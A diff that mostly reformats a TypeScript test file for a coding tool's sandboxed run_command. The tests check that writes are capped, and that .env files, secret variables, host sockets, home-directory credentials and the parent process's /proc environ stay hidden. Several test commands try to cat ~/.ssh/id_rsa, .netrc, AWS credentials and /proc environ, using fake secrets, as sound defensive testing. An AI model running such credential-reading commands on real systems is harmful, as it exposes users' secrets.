@@ -1,7 +1,19 @@
 import { afterAll, describe, expect, test } from "bun:test";
 import { spawnSync } from "node:child_process";
 import { createServer } from "node:net";
-import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { z } from "zod";
@@ -21,7 +33,12 @@ import { commandEnv, looksSecret, namesHostSocket } from "../../core/sandbox/com
 import { hostUnixSockets, planHiding, SYSTEM_TOPS } from "../../core/sandbox/hiding.ts";
 import { startCommandProxy } from "../../net/command-proxy.ts";
 import { sandboxAvailable } from "../../core/sandbox/namespace.ts";
-import { createRunCommandTool, type RunCommandOptions, type SandboxChoice, type StartProxy } from "../../core/tools/run-command.ts";
+import {
+  createRunCommandTool,
+  type RunCommandOptions,
+  type SandboxChoice,
+  type StartProxy,
+} from "../../core/tools/run-command.ts";
 import { DEFAULT_LIMITS, ToolError, type NetRequest, type PencilTool } from "../../core/tools/tool.ts";
 import type { CommandRecord } from "../../core/command-record.ts";
 import { openWorkspace } from "../../core/workspace.ts";
@@ -45,7 +62,10 @@ function tempDir(prefix?: string): string {
 const hasGit = spawnSync("git", ["--version"]).status === 0;
 const hasNamespace = sandboxAvailable();
 const modes: SandboxChoice[] = hasNamespace ? ["namespace", "plain"] : ["plain"];
-if (!hasNamespace) console.warn("run-command.test: unprivileged user namespaces are not available here; the namespace sandbox tests are SKIPPED.");
+if (!hasNamespace)
+  console.warn(
+    "run-command.test: unprivileged user namespaces are not available here; the namespace sandbox tests are SKIPPED.",
+  );
 /**
  * PATH for commands that run this test's own Bun: its directory first. The sandbox keeps only what PATH leads to,
  * and a checkout under /tmp or a private home has its Bun inside a directory the sandbox covers.
@@ -58,7 +78,12 @@ function setup(sandbox: SandboxChoice, files: Record<string, string | Uint8Array
   const root = tempDir("pencil-run-ws-");
   writeTree(root, { "src/app.ts": "export const a = 1;\n", "README.md": "hello\n", ...files });
   const t = toolContext(root);
-  const policy = compilePolicy({ workspaceRoot: t.ws.root, home: t.ws.home, pencilHome: join(tempDir(), "ph"), rules: [parseRule("Read(private/**)", "deny", "test")] });
+  const policy = compilePolicy({
+    workspaceRoot: t.ws.root,
+    home: t.ws.home,
+    pencilHome: join(tempDir(), "ph"),
+    rules: [parseRule("Read(private/**)", "deny", "test")],
+  });
   // As the policy seam has it: only what a read would be allowed without asking (so nothing outside the workspace).
   t.ctx.visible = (real) => decide(policy, { tool: "run_command", access: "read", real }).decision === "allow";
   const scratchParent = tempDir("pencil-run-parent-");
@@ -89,7 +114,11 @@ describe.each(modes)("run_command (%s)", (sandbox) => {
     const root = tempDir("pencil-run-ws-");
     writeTree(root, { "a.txt": "a\n" });
     const t = toolContext(root, { limits: { scratchWriteBytes: 1024 * 1024 } });
-    const tool = createRunCommandTool({ sandbox, scratchParent: tempDir("pencil-run-parent-"), parentEnv: RUNTIME_ENV });
+    const tool = createRunCommandTool({
+      sandbox,
+      scratchParent: tempDir("pencil-run-parent-"),
+      parentEnv: RUNTIME_ENV,
+    });
     const out = await t.run(tool, { command: "head -c 3000000 /dev/zero > big.bin; echo rc=$?; wc -c < big.bin" });
     expect(out).toMatch(/File too large|File size limit exceeded/);
     expect(out).toContain("\n1048576\n");
@@ -98,8 +127,12 @@ describe.each(modes)("run_command (%s)", (sandbox) => {
 
   test("the write cap: many files past it in all, and the command is killed with nothing staged", async () => {
     const { run, overlay } = setup(sandbox, {}, { writeCapBytes: 1024 * 1024 });
-    const out = await run("for i in $(seq 1 100); do head -c 100000 /dev/zero > f$i.bin; done; sleep 30; echo SURVIVED");
-    expect(out).toContain("it wrote more than 1.0 MB to files, the cap on what one command may write (limits.scratchWriteBytes");
+    const out = await run(
+      "for i in $(seq 1 100); do head -c 100000 /dev/zero > f$i.bin; done; sleep 30; echo SURVIVED",
+    );
+    expect(out).toContain(
+      "it wrote more than 1.0 MB to files, the cap on what one command may write (limits.scratchWriteBytes",
+    );
     expect(out).toContain("nothing was staged");
     expect(after(out)).not.toContain("SURVIVED");
     expect(overlay.list()).toEqual([]);
@@ -110,21 +143,31 @@ describe.each(modes)("run_command (%s)", (sandbox) => {
     overlay.writeBytes(join(root, "src/app.ts"), new TextEncoder().encode("export const a = 'staged';\n"));
     overlay.writeBytes(join(root, "src/only-staged.ts"), new TextEncoder().encode("fresh\n"), { mode: 0o755 });
     overlay.remove(join(root, "README.md"));
-    const out = await run("cat src/app.ts src/only-staged.ts; test -x src/only-staged.ts && echo executable; test -e README.md || echo readme-gone");
+    const out = await run(
+      "cat src/app.ts src/only-staged.ts; test -x src/only-staged.ts && echo executable; test -e README.md || echo readme-gone",
+    );
     expect(out).toContain("export const a = 'staged';\nfresh\nexecutable\nreadme-gone");
     expect(out).toContain("No file changes.");
     // Touching a file, or rewriting it with the same bytes, is no change.
-    const again = await run('touch src/app.ts && cp src/only-staged.ts "$TMPDIR/same" && cat "$TMPDIR/same" > src/only-staged.ts');
+    const again = await run(
+      'touch src/app.ts && cp src/only-staged.ts "$TMPDIR/same" && cat "$TMPDIR/same" > src/only-staged.ts',
+    );
     expect(again).toContain("Exit code 0");
     expect(again).toContain("No file changes.");
   });
 
   test("secrets stay out: .env files, policy-denied paths and secret environment variables", async () => {
-    const { run } = setup(sandbox, { ".env": "GROQ_API_KEY=from-file\n", ".env.example": "GROQ_API_KEY=\n", "private/key.pem": "PRIVATE\n" });
+    const { run } = setup(sandbox, {
+      ".env": "GROQ_API_KEY=from-file\n",
+      ".env.example": "GROQ_API_KEY=\n",
+      "private/key.pem": "PRIVATE\n",
+    });
     process.env.GROQ_API_KEY = "from-parent-env";
     process.env.PENCIL_TEST_TOKEN = "tok";
     try {
-      const out = await run("cat .env; cat private/key.pem; cat .env.example; echo \"key=[$GROQ_API_KEY] tok=[$PENCIL_TEST_TOKEN]\"; env");
+      const out = await run(
+        'cat .env; cat private/key.pem; cat .env.example; echo "key=[$GROQ_API_KEY] tok=[$PENCIL_TEST_TOKEN]"; env',
+      );
       expect(out).toContain(".env: No such file or directory");
       expect(out).toContain("private/key.pem: No such file or directory");
       expect(out).toContain("GROQ_API_KEY=\n");
@@ -187,7 +230,9 @@ describe.each(modes)("run_command (%s)", (sandbox) => {
     const { root, run, overlay, ctx } = setup(sandbox, { ".gitignore": "dist/\n*.log\n" });
     (ctx as typeof ctx & { writeRefusal?: (real: string) => string | null }).writeRefusal = (real) =>
       real.endsWith("/generated.ts") ? "Denied by the rule Edit(**/generated.ts)." : null;
-    const out = await run("mkdir -p dist && echo b > dist/bundle.js && echo x > debug.log && echo S=1 > .env && echo g > src/generated.ts && ln -s src link && echo ok > ok.txt");
+    const out = await run(
+      "mkdir -p dist && echo b > dist/bundle.js && echo x > debug.log && echo S=1 > .env && echo g > src/generated.ts && ln -s src link && echo ok > ok.txt",
+    );
     expect(out).toContain("Not staged: dist/bundle.js, because .gitignore ignores it");
     expect(out).toContain("Not staged: debug.log, because .gitignore ignores it");
     expect(out).toContain("Not staged: .env, because Writing .env files is never allowed");
@@ -208,13 +253,16 @@ describe.each(modes)("run_command (%s)", (sandbox) => {
 
   test.skipIf(!hasGit)("git works on the copy and never writes the real repository", async () => {
     const { root, run } = setup(sandbox);
-    const git = (...args: string[]) => spawnSync("git", ["-C", root, "-c", "user.email=t@e", "-c", "user.name=t", ...args], { encoding: "utf8" });
+    const git = (...args: string[]) =>
+      spawnSync("git", ["-C", root, "-c", "user.email=t@e", "-c", "user.name=t", ...args], { encoding: "utf8" });
     git("init", "-q");
     git("add", "-A");
     git("commit", "-qm", "init");
     const head = git("rev-parse", "HEAD").stdout;
     const objects = git("count-objects").stdout;
-    const out = await run("echo more >> README.md && git status --short && git add -A && git -c user.email=t@e -c user.name=t commit -qm two && git log --oneline | wc -l");
+    const out = await run(
+      "echo more >> README.md && git status --short && git add -A && git -c user.email=t@e -c user.name=t commit -qm two && git log --oneline | wc -l",
+    );
     expect(out).toContain(" M README.md");
     expect(out).toMatch(/\n2\n/);
     expect(out).toContain("Staged edit: README.md");
@@ -231,7 +279,9 @@ describe.each(modes)("run_command (%s)", (sandbox) => {
     symlinkSync("../../packages/lib", join(root, "node_modules/@me/lib"));
     writeFileSync(join(root, "node_modules/dep.js"), "dep\n");
     overlay.writeBytes(join(root, "packages/lib/index.js"), new TextEncoder().encode("lib staged\n"));
-    const out = await run("cat node_modules/@me/lib/index.js && echo through-link > alias.ts && echo via-modules > node_modules/@me/lib/new.js");
+    const out = await run(
+      "cat node_modules/@me/lib/index.js && echo through-link > alias.ts && echo via-modules > node_modules/@me/lib/new.js",
+    );
     expect(out).toContain("lib staged");
     expect(out).toContain("Staged edit: src/app.ts");
     expect(out).toContain("Staged create: packages/lib/new.js");
@@ -256,29 +306,36 @@ describe.each(modes)("run_command (%s)", (sandbox) => {
 describe("shared dependency directories", () => {
   const files = { "node_modules/pkg/index.js": "module.exports = 1;\n", "node_modules/pkg/.env": "LEAK=1\n" };
 
-  test.skipIf(!hasNamespace)("namespace: readable, writes refused, the real directory and workspace untouched", async () => {
-    const { root, run } = setup("namespace", files);
-    const before = readdirSync(join(root, "node_modules/pkg")).sort();
-    const outside = tempDir();
-    const out = await run(`cat node_modules/pkg/index.js; cat node_modules/pkg/.env; echo x > node_modules/pkg/new.js; echo y >> node_modules/pkg/index.js; touch '${root}/escape.txt'; touch '${outside}/out.txt'; pwd`);
-    expect(out).toContain("module.exports = 1;");
-    expect(out).not.toContain("LEAK");
-    expect(out).toContain("node_modules/pkg/new.js: Read-only file system");
-    expect(out).toContain(`\n${root}\n`);
-    expect(readdirSync(join(root, "node_modules/pkg")).sort()).toEqual(before);
-    expect(readFileSync(join(root, "node_modules/pkg/index.js"), "utf8")).toBe("module.exports = 1;\n");
-    // The absolute path of the workspace leads into the copy: the write there was staged, not made.
-    expect(existsSync(join(root, "escape.txt"))).toBe(false);
-    expect(out).toContain("Staged create: escape.txt");
-    // Outside the workspace the host's /tmp is covered by a private one, and the rest sealed read-only.
-    expect(out).toContain(`${outside}/out.txt': No such file or directory`);
-    expect(existsSync(join(outside, "out.txt"))).toBe(false);
-  });
+  test.skipIf(!hasNamespace)(
+    "namespace: readable, writes refused, the real directory and workspace untouched",
+    async () => {
+      const { root, run } = setup("namespace", files);
+      const before = readdirSync(join(root, "node_modules/pkg")).sort();
+      const outside = tempDir();
+      const out = await run(
+        `cat node_modules/pkg/index.js; cat node_modules/pkg/.env; echo x > node_modules/pkg/new.js; echo y >> node_modules/pkg/index.js; touch '${root}/escape.txt'; touch '${outside}/out.txt'; pwd`,
+      );
+      expect(out).toContain("module.exports = 1;");
+      expect(out).not.toContain("LEAK");
+      expect(out).toContain("node_modules/pkg/new.js: Read-only file system");
+      expect(out).toContain(`\n${root}\n`);
+      expect(readdirSync(join(root, "node_modules/pkg")).sort()).toEqual(before);
+      expect(readFileSync(join(root, "node_modules/pkg/index.js"), "utf8")).toBe("module.exports = 1;\n");
+      // The absolute path of the workspace leads into the copy: the write there was staged, not made.
+      expect(existsSync(join(root, "escape.txt"))).toBe(false);
+      expect(out).toContain("Staged create: escape.txt");
+      // Outside the workspace the host's /tmp is covered by a private one, and the rest sealed read-only.
+      expect(out).toContain(`${outside}/out.txt': No such file or directory`);
+      expect(existsSync(join(outside, "out.txt"))).toBe(false);
+    },
+  );
 
   test("plain: readable and secrets below it left out; a write through a link is detected and reported loudly", async () => {
     const { root, run, overlay } = setup("plain", { ...files, "node_modules/other/x.js": "x\n" });
     // node_modules holds a hidden file, so it is rebuilt around it: pkg's entries are linked one by one, other/ as a whole.
-    const out = await run("cat node_modules/pkg/index.js; cat node_modules/pkg/.env; echo a > node_modules/pkg/new.js; echo b > node_modules/other/leak.js");
+    const out = await run(
+      "cat node_modules/pkg/index.js; cat node_modules/pkg/.env; echo a > node_modules/pkg/new.js; echo b > node_modules/other/leak.js",
+    );
     expect(out).toContain("module.exports = 1;");
     expect(out).toContain("node_modules/pkg/.env: No such file or directory");
     expect(out).not.toContain("LEAK");
@@ -294,14 +351,59 @@ describe("shared dependency directories", () => {
 describe("environment and tool shape", () => {
   test("only an allow-list of variables passes, with HOME and TMPDIR in the scratch copy; secret-looking extras are dropped", () => {
     const env = commandEnv(
-      { PATH: "/bin", LANG: "en_US.UTF-8", GROQ_API_KEY: "k", TELEGRAM_BOT_TOKEN: "t", INSFORGE_ANON_KEY: "i", AWS_SECRET_ACCESS_KEY: "a", USER: "me" },
+      {
+        PATH: "/bin",
+        LANG: "en_US.UTF-8",
+        GROQ_API_KEY: "k",
+        TELEGRAM_BOT_TOKEN: "t",
+        INSFORGE_ANON_KEY: "i",
+        AWS_SECRET_ACCESS_KEY: "a",
+        USER: "me",
+      },
       { home: "/s/home", tmp: "/s/tmp" },
-      { FOO: "1", DB_PASSWORD: "p", MY_AUTH: "a", NODE_ENV: "test", SSH_AUTH_SOCK: "/tmp/ssh-x/agent.1", DISPLAY: ":0", DBUS_SESSION_BUS_ADDRESS: "unix:path=/run/user/1/bus", DOCKER_HOST: "unix:///run/docker.sock", XDG_RUNTIME_DIR: "/run/user/1", TMUX: "/tmp/tmux-1/default,1,0" },
+      {
+        FOO: "1",
+        DB_PASSWORD: "p",
+        MY_AUTH: "a",
+        NODE_ENV: "test",
+        SSH_AUTH_SOCK: "/tmp/ssh-x/agent.1",
+        DISPLAY: ":0",
+        DBUS_SESSION_BUS_ADDRESS: "unix:path=/run/user/1/bus",
+        DOCKER_HOST: "unix:///run/docker.sock",
+        XDG_RUNTIME_DIR: "/run/user/1",
+        TMUX: "/tmp/tmux-1/default,1,0",
+      },
     );
-    expect(env).toMatchObject({ PATH: "/bin", HOME: "/s/home", TMPDIR: "/s/tmp", LANG: "en_US.UTF-8", TERM: "dumb", CI: "1", USER: "me", FOO: "1", NODE_ENV: "test" });
-    for (const name of ["GROQ_API_KEY", "TELEGRAM_BOT_TOKEN", "INSFORGE_ANON_KEY", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "MY_AUTH"]) expect(env[name]).toBeUndefined();
+    expect(env).toMatchObject({
+      PATH: "/bin",
+      HOME: "/s/home",
+      TMPDIR: "/s/tmp",
+      LANG: "en_US.UTF-8",
+      TERM: "dumb",
+      CI: "1",
+      USER: "me",
+      FOO: "1",
+      NODE_ENV: "test",
+    });
+    for (const name of [
+      "GROQ_API_KEY",
+      "TELEGRAM_BOT_TOKEN",
+      "INSFORGE_ANON_KEY",
+      "AWS_SECRET_ACCESS_KEY",
+      "DB_PASSWORD",
+      "MY_AUTH",
+    ])
+      expect(env[name]).toBeUndefined();
     // Variables that lead to host services' sockets: through them a command could act outside any sandbox.
-    for (const name of ["SSH_AUTH_SOCK", "DISPLAY", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST", "XDG_RUNTIME_DIR", "TMUX"]) expect(env[name]).toBeUndefined();
+    for (const name of [
+      "SSH_AUTH_SOCK",
+      "DISPLAY",
+      "DBUS_SESSION_BUS_ADDRESS",
+      "DOCKER_HOST",
+      "XDG_RUNTIME_DIR",
+      "TMUX",
+    ])
+      expect(env[name]).toBeUndefined();
     expect(namesHostSocket("GPG_AGENT_INFO")).toBe(true);
     expect(namesHostSocket("WAYLAND_DISPLAY")).toBe(true);
     expect(namesHostSocket("MY_SERVICE_SOCKET")).toBe(true);
@@ -341,7 +443,12 @@ function fakeHome() {
     ".nvm/versions/node/v20/bin/mynode": '#!/bin/sh\ncat "$(dirname "$0")/../../../../nvm-version.txt"\n',
     ".nvm/nvm-version.txt": "nvm-ok\n",
   });
-  for (const f of ["tools/acme/bin/acme", "opt/pkgs/node_modules/greet/bin/greet.sh", ".nvm/versions/node/v20/bin/mynode"]) chmodSync(join(home, f), 0o755);
+  for (const f of [
+    "tools/acme/bin/acme",
+    "opt/pkgs/node_modules/greet/bin/greet.sh",
+    ".nvm/versions/node/v20/bin/mynode",
+  ])
+    chmodSync(join(home, f), 0o755);
   mkdirSync(join(home, ".local/bin"), { recursive: true });
   symlinkSync("../../opt/pkgs/node_modules/greet/bin/greet.sh", join(home, ".local/bin/greet"));
   // A credentials directory that is a link to somewhere outside home: masked where it really is.
@@ -350,101 +457,168 @@ function fakeHome() {
   symlinkSync(join(elsewhere, "aws"), join(home, ".aws"));
   const pencilHome = tempDir("pencil-run-ph-");
   writeTree(pencilHome, { "state.json": "PENCIL-STATE-OUTSIDE\n" });
-  const PATH = [`${home}/tools/acme/bin`, `${home}/.local/bin`, `${home}/.nvm/versions/node/v20/bin`, RUNTIME_PATH].join(":");
-  const secrets = ["FAKE-SSH-KEY", "NETRC-SECRET", "GH-SECRET", "PENCIL-STATE", "OPT-SECRET", "AWS-SECRET", "HOME-NOTES"];
-  return { home, elsewhere, pencilHome, PATH, secrets, options: { realHome: home, pencilHome, parentEnv: { PATH, LANG: "C.UTF-8" } } satisfies RunCommandOptions };
+  const PATH = [
+    `${home}/tools/acme/bin`,
+    `${home}/.local/bin`,
+    `${home}/.nvm/versions/node/v20/bin`,
+    RUNTIME_PATH,
+  ].join(":");
+  const secrets = [
+    "FAKE-SSH-KEY",
+    "NETRC-SECRET",
+    "GH-SECRET",
+    "PENCIL-STATE",
+    "OPT-SECRET",
+    "AWS-SECRET",
+    "HOME-NOTES",
+  ];
+  return {
+    home,
+    elsewhere,
+    pencilHome,
+    PATH,
+    secrets,
+    options: { realHome: home, pencilHome, parentEnv: { PATH, LANG: "C.UTF-8" } } satisfies RunCommandOptions,
+  };
 }
 
 describe("namespace sandbox: the real home and Pencil's state are hidden", () => {
-  test.skipIf(!hasNamespace)("credentials, the rest of home and PENCIL_HOME are hidden; the toolchain on PATH still runs", async () => {
-    const h = fakeHome();
-    const { run } = setup("namespace", {}, h.options);
-    const out = await run(
-      `cat ${h.home}/.ssh/id_rsa ${h.home}/.netrc ${h.home}/.config/gh/hosts.yml ${h.home}/notes.txt ${h.home}/opt/secret.txt ${h.elsewhere}/aws/credentials; ` +
-        `ls -A ${h.home}/.pencil ${h.pencilHome}; cat ${h.home}/.pencil/changesets/c1.json ${h.pencilHome}/state.json; ` +
-        `acme; greet; mynode; "${process.execPath}" --version; echo "home=[$(ls -A ${h.home} | tr '\\n' ' ')]"; touch ${h.home}/.local/bin/x; ` +
-        // Into a file, not a pipe: the shell holds a pipe's end while it starts the other side, which would show as fd 3.
-        `echo fds:; ls /proc/$$/fd > "$TMPDIR/fds"; tr '\\n' ' ' < "$TMPDIR/fds"`,
-    );
-    for (const secret of h.secrets) expect(out).not.toContain(secret);
-    expect(out).toContain(".ssh/id_rsa: No such file or directory");
-    expect(out).toContain("acme-ok\ngreet-ok\nnvm-ok\n" + Bun.version);
-    // Only what the command needs is back under home; the kept directories are read-only.
-    expect(out).toContain("home=[.local .nvm opt tools ]");
-    expect(out).toContain(".local/bin/x': Read-only file system");
-    expect(existsSync(join(h.home, ".local/bin/x"))).toBe(false);
-    // No descriptor opened to re-bind the kept directories is left open: through one, ".." would reach the real home.
-    expect(out).toContain("fds:\n0 1 2 \n");
-  });
+  test.skipIf(!hasNamespace)(
+    "credentials, the rest of home and PENCIL_HOME are hidden; the toolchain on PATH still runs",
+    async () => {
+      const h = fakeHome();
+      const { run } = setup("namespace", {}, h.options);
+      const out = await run(
+        `cat ${h.home}/.ssh/id_rsa ${h.home}/.netrc ${h.home}/.config/gh/hosts.yml ${h.home}/notes.txt ${h.home}/opt/secret.txt ${h.elsewhere}/aws/credentials; ` +
+          `ls -A ${h.home}/.pencil ${h.pencilHome}; cat ${h.home}/.pencil/changesets/c1.json ${h.pencilHome}/state.json; ` +
+          `acme; greet; mynode; "${process.execPath}" --version; echo "home=[$(ls -A ${h.home} | tr '\\n' ' ')]"; touch ${h.home}/.local/bin/x; ` +
+          // Into a file, not a pipe: the shell holds a pipe's end while it starts the other side, which would show as fd 3.
+          `echo fds:; ls /proc/$$/fd > "$TMPDIR/fds"; tr '\\n' ' ' < "$TMPDIR/fds"`,
+      );
+      for (const secret of h.secrets) expect(out).not.toContain(secret);
+      expect(out).toContain(".ssh/id_rsa: No such file or directory");
+      expect(out).toContain("acme-ok\ngreet-ok\nnvm-ok\n" + Bun.version);
+      // Only what the command needs is back under home; the kept directories are read-only.
+      expect(out).toContain("home=[.local .nvm opt tools ]");
+      expect(out).toContain(".local/bin/x': Read-only file system");
+      expect(existsSync(join(h.home, ".local/bin/x"))).toBe(false);
+      // No descriptor opened to re-bind the kept directories is left open: through one, ".." would reach the real home.
+      expect(out).toContain("fds:\n0 1 2 \n");
+    },
+  );
 
-  test.skipIf(!hasNamespace)("a workspace and scratch directory inside the real home stay reachable; its secrets do not", async () => {
-    const h = fakeHome();
-    const root = join(h.home, "proj");
-    writeTree(root, { "src/app.ts": "export const a = 1;\n" });
-    const scratchParent = join(h.home, "scratch");
-    mkdirSync(scratchParent);
-    const t = toolContext(root);
-    const tool = createRunCommandTool({ sandbox: "namespace", scratchParent, ...h.options });
-    const out = await t.run(tool, { command: `cat src/app.ts; echo new > new.txt; cat ${h.home}/.ssh/id_rsa; cat ${h.home}/notes.txt; pwd` });
-    expect(out).toContain("export const a = 1;");
-    expect(out).toContain(`\n${t.ws.root}\n`);
-    expect(out).toContain("Staged create: new.txt");
-    for (const secret of h.secrets) expect(out).not.toContain(secret);
-    expect(readdirSync(scratchParent)).toEqual([]);
-  });
-
-  test.skipIf(!hasNamespace)("Pencil's own environment and working directory are out of reach through /proc: its pid namespace shows no host process", async () => {
-    const { run } = setup("namespace");
-    const out = await run(`echo "ppid=$PPID self=$$"; tr '\\0' '\\n' < /proc/${process.pid}/environ | head -3; ls /proc/${process.pid}/cwd/ | head -3; ls /proc | grep -c '^[0-9]'; echo done`);
-    // The command is init of its own pid namespace: no parent, and Pencil's pid names nothing (or one of its own few processes).
-    expect(out).toContain("ppid=0 self=1");
-    expect(Number(/\n(\d+)\ndone/.exec(out)?.[1])).toBeLessThan(10);
-    expect(out).not.toContain("PATH=");
-    expect(out).not.toContain("package.json");
-  });
-
-  test.skipIf(!hasNamespace)("a setup that fails never downgrades: the command does not run and the error says why", async () => {
-    const outside = tempDir();
-    const notADirectory = join(outside, "home-file");
-    writeFileSync(notADirectory, "");
-    for (const sandbox of ["auto", "namespace"] as const) {
-      const { run, scratchParent } = setup(sandbox, {}, { realHome: notADirectory });
-      const error = await run(`touch ${outside}/ran-${sandbox}`).catch((e: unknown) => e);
-      expect(error).toBeInstanceOf(ToolError);
-      expect((error as Error).message).toMatch(/^The sandbox could not be set up \(cannot cover .*home-file\), so the command did not run\./);
-      expect(existsSync(join(outside, `ran-${sandbox}`))).toBe(false);
+  test.skipIf(!hasNamespace)(
+    "a workspace and scratch directory inside the real home stay reachable; its secrets do not",
+    async () => {
+      const h = fakeHome();
+      const root = join(h.home, "proj");
+      writeTree(root, { "src/app.ts": "export const a = 1;\n" });
+      const scratchParent = join(h.home, "scratch");
+      mkdirSync(scratchParent);
+      const t = toolContext(root);
+      const tool = createRunCommandTool({ sandbox: "namespace", scratchParent, ...h.options });
+      const out = await t.run(tool, {
+        command: `cat src/app.ts; echo new > new.txt; cat ${h.home}/.ssh/id_rsa; cat ${h.home}/notes.txt; pwd`,
+      });
+      expect(out).toContain("export const a = 1;");
+      expect(out).toContain(`\n${t.ws.root}\n`);
+      expect(out).toContain("Staged create: new.txt");
+      for (const secret of h.secrets) expect(out).not.toContain(secret);
       expect(readdirSync(scratchParent)).toEqual([]);
-    }
-  });
+    },
+  );
+
+  test.skipIf(!hasNamespace)(
+    "Pencil's own environment and working directory are out of reach through /proc: its pid namespace shows no host process",
+    async () => {
+      const { run } = setup("namespace");
+      const out = await run(
+        `echo "ppid=$PPID self=$$"; tr '\\0' '\\n' < /proc/${process.pid}/environ | head -3; ls /proc/${process.pid}/cwd/ | head -3; ls /proc | grep -c '^[0-9]'; echo done`,
+      );
+      // The command is init of its own pid namespace: no parent, and Pencil's pid names nothing (or one of its own few processes).
+      expect(out).toContain("ppid=0 self=1");
+      expect(Number(/\n(\d+)\ndone/.exec(out)?.[1])).toBeLessThan(10);
+      expect(out).not.toContain("PATH=");
+      expect(out).not.toContain("package.json");
+    },
+  );
+
+  test.skipIf(!hasNamespace)(
+    "a setup that fails never downgrades: the command does not run and the error says why",
+    async () => {
+      const outside = tempDir();
+      const notADirectory = join(outside, "home-file");
+      writeFileSync(notADirectory, "");
+      for (const sandbox of ["auto", "namespace"] as const) {
+        const { run, scratchParent } = setup(sandbox, {}, { realHome: notADirectory });
+        const error = await run(`touch ${outside}/ran-${sandbox}`).catch((e: unknown) => e);
+        expect(error).toBeInstanceOf(ToolError);
+        expect((error as Error).message).toMatch(
+          /^The sandbox could not be set up \(cannot cover .*home-file\), so the command did not run\./,
+        );
+        expect(existsSync(join(outside, `ran-${sandbox}`))).toBe(false);
+        expect(readdirSync(scratchParent)).toEqual([]);
+      }
+    },
+  );
 });
 
 describe("namespace sandbox: sibling projects of the workspace's ancestors", () => {
-  test.skipIf(!hasNamespace || !hasGit)("sibling projects vanish; a kept PATH directory shows no .env, .envrc, key or .git/config at any depth; git status and the toolchain still work", async () => {
-    const base = tempDir("pencil-run-anc-");
-    // A sibling checkout whose bin/ is on PATH: its prefix (the whole checkout) is kept for the toolchain.
-    const main = join(base, "main");
-    writeTree(main, { "bin/tool": "#!/bin/sh\necho tool-ok\n", ".env": "SIBLING-ENV-1\n", "app/.env.local": "SIBLING-ENV-2\n", "app/.envrc": "SIBLING-ENVRC\n", "app/id_rsa": "SIBLING-KEY\n", ".git/config": "[remote]\n url = https://GIT-TOKEN@x/y\n" });
-    chmodSync(join(main, "bin/tool"), 0o755);
-    writeFileSync(join(base, ".env"), "PARENT-ENV\n");
-    // A sibling project nothing leads to: gone with the rest of the ancestor.
-    writeTree(join(base, "other"), { ".env": "OTHER-ENV\n", ".git/config": "[remote]\n url = https://OTHER-TOKEN@x/y\n", "notes.txt": "OTHER-NOTES\n" });
-    const root = join(base, "ws");
-    writeTree(root, { "README.md": "hello\n" });
-    const git = (...a: string[]) => spawnSync("git", ["-c", "user.email=a@b", "-c", "user.name=a", ...a], { cwd: root });
-    git("init", "-q");
-    git("add", ".");
-    git("commit", "-qm", "init");
-    const t = toolContext(root);
-    const tool = createRunCommandTool({ sandbox: "namespace", scratchParent: tempDir("pencil-run-parent-"), parentEnv: { PATH: `${main}/bin:${RUNTIME_PATH}`, LANG: "C.UTF-8" } });
-    const out = await t.run(tool, {
-      command: `cat ${main}/.env ${main}/app/.env.local ${main}/app/.envrc ${main}/app/id_rsa ${main}/.git/config ${base}/.env ${base}/other/.env ${base}/other/.git/config ${base}/other/notes.txt; echo "ls=[$(ls -A ${base} | tr '\\n' ' ')]"; tool; git status --short; echo git=$?; "${process.execPath}" --version`,
-    });
-    for (const secret of ["SIBLING-ENV", "SIBLING-ENVRC", "SIBLING-KEY", "GIT-TOKEN", "PARENT-ENV", "OTHER-ENV", "OTHER-TOKEN", "OTHER-NOTES"]) expect(out).not.toContain(secret);
-    // Of the ancestor, only the path to the workspace and what PATH leads to are left.
-    expect(out).toContain("ls=[main ws ]");
-    expect(out).toContain("tool-ok\n");
-    expect(out).toContain("git=0\n" + Bun.version);
-  });
+  test.skipIf(!hasNamespace || !hasGit)(
+    "sibling projects vanish; a kept PATH directory shows no .env, .envrc, key or .git/config at any depth; git status and the toolchain still work",
+    async () => {
+      const base = tempDir("pencil-run-anc-");
+      // A sibling checkout whose bin/ is on PATH: its prefix (the whole checkout) is kept for the toolchain.
+      const main = join(base, "main");
+      writeTree(main, {
+        "bin/tool": "#!/bin/sh\necho tool-ok\n",
+        ".env": "SIBLING-ENV-1\n",
+        "app/.env.local": "SIBLING-ENV-2\n",
+        "app/.envrc": "SIBLING-ENVRC\n",
+        "app/id_rsa": "SIBLING-KEY\n",
+        ".git/config": "[remote]\n url = https://GIT-TOKEN@x/y\n",
+      });
+      chmodSync(join(main, "bin/tool"), 0o755);
+      writeFileSync(join(base, ".env"), "PARENT-ENV\n");
+      // A sibling project nothing leads to: gone with the rest of the ancestor.
+      writeTree(join(base, "other"), {
+        ".env": "OTHER-ENV\n",
+        ".git/config": "[remote]\n url = https://OTHER-TOKEN@x/y\n",
+        "notes.txt": "OTHER-NOTES\n",
+      });
+      const root = join(base, "ws");
+      writeTree(root, { "README.md": "hello\n" });
+      const git = (...a: string[]) =>
+        spawnSync("git", ["-c", "user.email=a@b", "-c", "user.name=a", ...a], { cwd: root });
+      git("init", "-q");
+      git("add", ".");
+      git("commit", "-qm", "init");
+      const t = toolContext(root);
+      const tool = createRunCommandTool({
+        sandbox: "namespace",
+        scratchParent: tempDir("pencil-run-parent-"),
+        parentEnv: { PATH: `${main}/bin:${RUNTIME_PATH}`, LANG: "C.UTF-8" },
+      });
+      const out = await t.run(tool, {
+        command: `cat ${main}/.env ${main}/app/.env.local ${main}/app/.envrc ${main}/app/id_rsa ${main}/.git/config ${base}/.env ${base}/other/.env ${base}/other/.git/config ${base}/other/notes.txt; echo "ls=[$(ls -A ${base} | tr '\\n' ' ')]"; tool; git status --short; echo git=$?; "${process.execPath}" --version`,
+      });
+      for (const secret of [
+        "SIBLING-ENV",
+        "SIBLING-ENVRC",
+        "SIBLING-KEY",
+        "GIT-TOKEN",
+        "PARENT-ENV",
+        "OTHER-ENV",
+        "OTHER-TOKEN",
+        "OTHER-NOTES",
+      ])
+        expect(out).not.toContain(secret);
+      // Of the ancestor, only the path to the workspace and what PATH leads to are left.
+      expect(out).toContain("ls=[main ws ]");
